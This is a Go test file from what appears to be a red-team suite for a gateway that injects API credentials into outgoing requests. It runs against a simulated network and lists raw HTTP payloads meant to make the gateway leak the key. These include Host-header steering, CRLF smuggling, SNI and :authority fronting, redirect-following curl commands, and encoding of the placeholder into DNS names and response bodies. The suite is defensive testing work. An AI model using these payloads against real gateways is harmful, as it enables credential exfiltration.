package redteam

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"net/http"
	"strings"

	"github.com/custody-project/custody/audit"
	"github.com/custody-project/custody/redteam/simnet"
)

// credentialProbes are the probes of credentials that the gateway adds to requests.
type credentialProbes struct{ secretProbes }

// steering adds the probes that try to make the gateway send a credential to another host.
func (c credentialProbes) steering() {
	add := func(id, title string, bypass Bypass, t *task) {
		if t.Timeout = 3; id != "second-request" && t.TLS.ALPN[0] != "h2" {
			t.Enough = "\r\n\r\n"
		}
		c.secretive(Probe{ID: "steer/" + id, Title: title, Bypass: bypass, step: "steer", task: t, binds: []secret{apiKey}, proof: deniedOrEnded})
	}
	other := "other." + simnet.Wild
	for _, h := range []struct {
		id, title string
		bypass    Bypass
		text      string
	}{
		{"host", "another Host, which a rule allows, in a request with an injected credential", Steering, "GET /v1/{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
		{"host-attacker", "the attacker's Host in a request with an injected credential", Steering, "GET /v1/{T} HTTP/1.1\r\nHost: {T}." + simnet.Attacker + "\r\n\r\n"},
		{"host-two", "two Hosts in a request with an injected credential", Steering, "GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nHost: {O}\r\n\r\n"},
		{"host-port", "another port in Host in a request with an injected credential", Steering, "GET /v1/{T} HTTP/1.1\r\nHost: {H}:8443\r\n\r\n"},
		{"crlf-before", "an empty line before a request to another Host in a request with an injected credential", LeadingCRLF, "\r\n\r\nGET /v1/{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
		{"crlf-in-target", "a bare CR before another Host in a request with an injected credential", LeadingCRLF, "GET /v1/{T} HTTP/1.1\rHost: {O}\r\nHost: {H}\r\n\r\n"},
		{"absolute", "another host in the request's target in a request with an injected credential", Fronting, "GET https://{O}/v1/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"second-request", "a request that gets the credential, and on the same connection one to another Host", Steering,
			"GET /v1/first HTTP/1.1\r\nHost: {H}\r\n\r\nGET /v1/{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
		{"connect", "CONNECT in place of a request with an injected credential", Fronting, "CONNECT {O}:443 HTTP/1.1\r\nHost: {O}:443\r\n\r\n"},
	} {
		add(h.id, h.title, h.bypass, tlsTo(simnet.API, c.fill(h.text, simnet.API, other)))
	}
	for _, h := range []struct {
		id, title string
		bypass    Bypass
		fields    []string
	}{
		{"h2-authority", "another :authority in a request with an injected credential", Fronting, []string{":authority", other}},
		{"h2-host", "another host beside :authority in a request with an injected credential", Steering, []string{":authority", simnet.API, "host", other}},
	} {
		t := tlsTo(simnet.API, "")
		t.TLS.ALPN = []string{"h2"}
		fields := append([]string{":method", "GET", ":scheme", "https", ":path", "/v1/" + c.token()}, h.fields...)
		t.Send = []piece{{Data: h2(fields...)}}
		add(h.id, h.title, h.bypass, t)
	}
	t := tlsTo("public-"+c.token()+"."+simnet.Rebind, c.fill("GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n", simnet.API, other))
	t.TLS.SNI = simnet.API
	add("address", "the credential's host in SNI and Host, at another host's address", Fronting, t)
	c.last().allowed = asks
	t = tlsTo(simnet.API, c.fill("GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n", simnet.API, other))
	t.TLS.SNI = other
	add("sni", "another SNI, at the address of the credential's host", Fronting, t)
	clear := &task{Do: "talk", Name: simnet.API, Port: 80, Send: once(c.fill("GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n", simnet.API, other))}
	c.secretive(Probe{ID: "steer/clear", step: "steer", Title: "a cleartext request to the credential's host: no credential is injected", Bypass: Steering, allowed: reaches, task: clear, binds: []secret{apiKey},
		proof: allowedFlow, outer: notInTheClear})
	c.secretive(Probe{ID: "steer/redirect", Title: "a redirect of the credential's host to another one, with a client that sends the header again", Bypass: Steering, allowed: reaches,
		binds: []secret{apiKey}, proof: flagged("placeholder-to-other-host"), outer: notFollowed,
		task: program("sh", "-c", "curl -sS -m 60 -L -H \"X-Api-Key: $API_KEY\" 'https://"+simnet.API+"/v1/redirect?to=https://"+other+"/"+c.token()+"'")})
	c.secretive(Probe{ID: "steer/redirect-clear", step: "steer", Title: "a redirect of the credential's host to itself in the clear", Bypass: Steering, allowed: reaches,
		binds: []secret{apiKey}, outer: notFollowed, proof: denied,
		task: program("sh", "-c", "curl -sS -m 60 -L -H \"X-Api-Key: $API_KEY\" 'https://"+simnet.API+"/v1/redirect?to=http://"+simnet.API+"/v1/"+c.token()+"'")})
}

// notInTheClear reports a value that its own host received without TLS.
func notInTheClear(t *trial, p Probe, said report) string {
	for _, r := range t.net.Requests() {
		if r.SNI == "" && shown([]byte(fmt.Sprint(r.URI, r.Header, r.Body)), t.values[apiKey.name]) != "" {
			return "the credential was seen in the clear"
		}
	}
	return spilled(t, p, report{})
}

// notFollowed fails a probe if a request followed a redirect.
func notFollowed(t *trial, p Probe, said report) string {
	for _, r := range t.net.Requests() {
		if strings.Contains(r.URI, p.token) && !strings.Contains(r.URI, "/redirect?") {
			return "the redirect was followed to " + r.Host
		}
	}
	return spilled(t, p, said)
}

// secondAuth adds the probes with a credential of the guest, in addition to the gateway's or in its place. With an
// account at an allowed host, a guest could exfiltrate data.
func (c credentialProbes) secondAuth() {
	for _, h := range []struct{ id, title, text string }{
		{"authorization", "a second authentication header", "GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nAuthorization: Bearer own-key-of-{T}\r\n\r\n"},
		{"same", "the guest's own key in the credential's header", "GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nX-Api-Key: own-key-of-{T}\r\n\r\n"},
		{"same-twice", "the placeholder, and the guest's own key in a second header of that name", "GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nX-Api-Key: {{API_KEY|raw}}\r\nX-Api-Key: own-key-of-{T}\r\n\r\n"},
		{"same-list", "the placeholder and the guest's own key in one header", "GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nX-Api-Key: own-key-of-{T}, {{API_KEY|raw}}\r\n\r\n"},
		{"underscore", "the guest's own key in the credential's header, written with underscores", "GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nX_Api_Key: own-key-of-{T}\r\n\r\n"},
		{"query", "the guest's own key in the query", "GET /v1/{T}?key=own-key-of-{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"query-escaped", "the guest's own key in the query, under an escaped name", "GET /v1/{T}?%6bey=own-key-of-{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"query-semicolon", "the guest's own key in the query, after a semicolon", "GET /v1/{T}?a=b;access_token=own-key-of-{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"proxy", "an authentication header for proxies", "GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nX-Forwarded-Authorization: own-key-of-{T}\r\n\r\n"},
	} {
		t := refusedTo(simnet.API, c.fill(h.text, simnet.API, ""))
		c.secretive(Probe{ID: "second/" + h.id, Title: h.title, Bypass: SecondAuth, step: "second", task: t, binds: []secret{apiKey}, proof: denied})
	}
	c.secretive(Probe{ID: "second/cookie", step: "second", Title: "the guest's own session in a cookie, which the gateway removes", Bypass: SecondAuth, allowed: reaches, binds: []secret{apiKey}, proof: allowedFlow,
		task: tlsTo(simnet.API, c.fill("GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nCookie: session=own-key-of-{T}\r\nConnection: close\r\n\r\n", simnet.API, "")),
		outer: func(t *trial, p Probe, _ report) string {
			for _, r := range t.net.Requests() {
				if strings.Contains(fmt.Sprint(r.Header), "own-key-of-"+p.token) {
					return "the host received it"
				}
			}
			return ""
		}})
}

// placeholders adds the probes of the placeholder that a step has in place of a credential.
func (c credentialProbes) placeholders() {
	other := "other." + simnet.Wild
	add := func(id, title string, allowed reach, t *task, proof evidence) {
		t.Enough = "\r\n\r\n"
		c.secretive(Probe{ID: "holder/" + id, Title: title, Bypass: Elsewhere, allowed: allowed, task: t, binds: []secret{apiKey}, proof: proof})
	}
	astray := flagged("placeholder-to-other-host")
	for _, h := range []struct{ id, title, text string }{
		{"header", "in its header", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nX-Api-Key: {{API_KEY|raw}}\r\n\r\n"},
		{"bearer", "as a bearer token", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nAuthorization: Bearer {{API_KEY|raw}}\r\n\r\n"},
		{"basic", "in Basic authentication", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nAuthorization: Basic {{API_KEY|user}}\r\n\r\n"},
		{"path", "in a path, every byte escaped", "GET /{T}/{{API_KEY|urlall}} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"body", "in a body of chunks of 5 bytes", "POST /x HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n{{API_KEY|chunks}}"},
	} {
		add(h.id, "a placeholder sent to another host whose rule has http, "+h.title, nothing, tlsTo(other, c.fill(h.text, other, "")), astray)
	}
	c.secretive(Probe{ID: "holder/unread", step: "holder", Title: "a placeholder sent to another host whose TLS the gateway does not terminate: it is not replaced", Bypass: Elsewhere, allowed: reaches,
		task:  tlsTo(simnet.Allowed, c.fill("GET /{T} HTTP/1.1\r\nHost: {H}\r\nX-Api-Key: {{API_KEY|raw}}\r\nConnection: close\r\n\r\n", simnet.Allowed, "")),
		binds: []secret{apiKey}, proof: flowTo(simnet.Allowed), outer: onlyPlaceholder})
	add("clear", "a placeholder sent to another host in cleartext", nothing,
		&task{Do: "talk", Name: simnet.Plain, Port: 80, Send: once(c.fill("GET /{T} HTTP/1.1\r\nHost: {H}\r\nX-Api-Key: {{API_KEY|raw}}\r\n\r\n", simnet.Plain, ""))}, astray)
	add("clear-own", "a placeholder sent to its own host in cleartext", nothing,
		&task{Do: "talk", Name: simnet.API, Port: 80, Send: once(c.fill("GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nX-Api-Key: {{API_KEY|raw}}\r\n\r\n", simnet.API, ""))}, denied)
	add("sni", "a placeholder in an SNI, in hex", asks, sniTask("public-"+c.token()+"."+simnet.Rebind, "{{API_KEY|labels16}}."+simnet.Rebind), astray)
	add("dns", "a placeholder in the labels of a name, in base32", nothing, &task{Do: "talk", Name: "{{API_KEY|labels32}}." + simnet.Wild, Port: 443,
		TLS: &tlsTask{SNI: "{{API_KEY|labels32}}." + simnet.Wild}, Send: once("x")}, astray)
	c.secretive(Probe{ID: "holder/own-body", step: "holder", Title: "a placeholder in a request body to its own host: it is not replaced", Bypass: Reflection, allowed: reaches, binds: []secret{apiKey},
		task: tlsTo(simnet.API, c.fill("POST /v1/{T} HTTP/1.1\r\nHost: {H}\r\nContent-Length: {{API_KEY|length}}\r\nConnection: close\r\n\r\n{{API_KEY|raw}}", simnet.API, "")), proof: allowedFlow,
		outer: func(t *trial, p Probe, _ report) string {
			for _, r := range t.net.Requests() {
				if strings.Contains(r.URI, p.token) && shown([]byte(r.Body+r.URI), t.values[apiKey.name]) != "" {
					return "the host received the value in its body"
				}
			}
			return spilled(t, p, report{})
		}})
}

// onlyPlaceholder fails a probe on the value, not on its placeholder.
func onlyPlaceholder(t *trial, p Probe, _ report) string { return spilled(t, p, report{}) }

// refusedTo returns a task that ends with the first response: a refusal, or one of the host's servers, which have logged
// the request.
func refusedTo(name, text string) *task {
	t := tlsTo(name, text)
	t.Enough = "\r\n\r\n"
	return t
}

func sniTask(at, sni string) *task {
	t := tlsTo(at, "x")
	t.TLS.SNI = sni
	return t
}

// reflections adds the probes of responses in which the host returns the request's data. Their control receives the
// value under a rule without masking.
func (c credentialProbes) reflections() {
	for _, h := range []struct {
		as, title string
		bypass    Bypass
	}{
		{"raw", "as it is", Reflection}, {"base64", "in base64", Reflection}, {"hex", "in hex", Reflection}, {"utf16", "in UTF-16", Reflection},
		{"gzip", "compressed with gzip", Reflection}, {"deflate", "compressed with deflate", Reflection},
		{"chunks", "in chunks of one byte", SplitWrites}, {"pauses", "in three parts with pauses", SplitWrites},
		{"header", "in a header and a cookie", Reflection}, {"trailer", "in a trailer", Reflection}, {"error", "in an error page", Reflection},
		{"unknown", "under a Content-Encoding that the gateway does not know and that is false", MaskOpen}, {"no-gzip", "uncompressed, under Content-Encoding: gzip", MaskOpen},
		{"gzip-twice", "compressed twice", MaskOpen}, {"gzip-broken", "in truncated gzip", MaskOpen}, {"part", "in a partial answer (206)", MaskOpen},
		{"cut", "in an answer whose connection ends in the middle", MaskOpen},
	} {
		add := func(id, how string, t *task) {
			c.secretive(Probe{ID: "reflect/" + id, step: "reflect", Title: "a host returns a credential " + h.title + how, Bypass: h.bypass, allowed: reaches, task: t, binds: []secret{apiKey},
				proof: answered, outer: masked})
		}
		path := "/v1/reflect?as=" + h.as + "&"
		add(h.as, "", tlsTo(simnet.API, "GET "+path+c.token()+" HTTP/1.1\r\nHost: "+simnet.API+"\r\nAccept-Encoding: gzip, br\r\nConnection: close\r\n\r\n"))
	}
	for _, how := range []struct{ as, method, title string }{
		{"head", "HEAD", "the body of an answer to HEAD"}, {"204", "GET", "a body after a 204 answer"}, {"304", "GET", "a body after a 304 answer"},
		{"short", "GET", "data beyond the Content-Length"}, {"chunks", "GET", "data after the last chunk"},
	} { // each has its step's credentials revoked
		c.secretive(Probe{ID: "reflect/beyond-" + how.as, step: "beyond-" + how.as, Title: "a host returns a credential in " + how.title, Bypass: Reflection, allowed: reaches, binds: []secret{apiKey},
			proof: flagged("secret-after-answer"), outer: unsaid,
			task: tlsTo(simnet.API, how.method+" /v1/reflect?as=beyond-"+how.as+"&"+c.token()+" HTTP/1.1\r\nHost: "+simnet.API+"\r\nConnection: close\r\n\r\n")})
	}
	c.secretive(Probe{ID: "reflect/h2", step: "reflect", Title: "a host returns a credential in HTTP/2, compressed as the client asked", Bypass: Reflection, allowed: reaches, binds: []secret{apiKey}, proof: answered, outer: masked,
		task: program("curl", "-sS", "--http2", "--compressed", "-m", "15", "https://"+simnet.API+"/v1/reflect?as=gzip&"+c.token())})
	c.secretive(Probe{ID: "reflect/range", step: "reflect", Title: "a host returns a credential in a range that the client asked for", Bypass: MaskOpen, allowed: reaches, binds: []secret{apiKey}, proof: answered, outer: masked,
		task: tlsTo(simnet.API, "GET /v1/reflect?as=raw&"+c.token()+" HTTP/1.1\r\nHost: "+simnet.API+"\r\nRange: bytes=9-30\r\nConnection: close\r\n\r\n")})
}

// answered requires that the record has the request and the credential that the gateway used.
func answered(b *about, r *audit.Record) bool {
	return r.HTTP != nil && r.HTTP.Credential == apiKey.name && b.hasToken(string(r.HTTP.Path))
}

// body returns an answer's decoded body, as far as it was received.
func body(answer []byte) []byte {
	resp, err := http.ReadResponse(bufio.NewReader(bytes.NewReader(answer)), nil)
	if err != nil {
		return nil // curl's output has no head
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body) // the response may be truncated
	return fmt.Append(b, resp.Trailer)
}

// unsaid is masked, and also fails a probe if the value is in the run's files or in custody's output.
func unsaid(t *trial, p Probe, said report) string {
	if where := t.kept.holds([]byte(t.values[apiKey.name])); where != "" {
		return "the value is in " + where
	}
	return masked(t, p, said)
}

// masked fails a response that contains the value, and a probe that proves nothing because the host did not receive it.
func masked(t *trial, p Probe, said report) string {
	if form := shown(append(said.Answer, body(said.Answer)...), t.values[apiKey.name]); form != "" {
		return "the sandbox received the value, in the form " + form
	}
	return arrives(apiKey)(t, p, said)
}
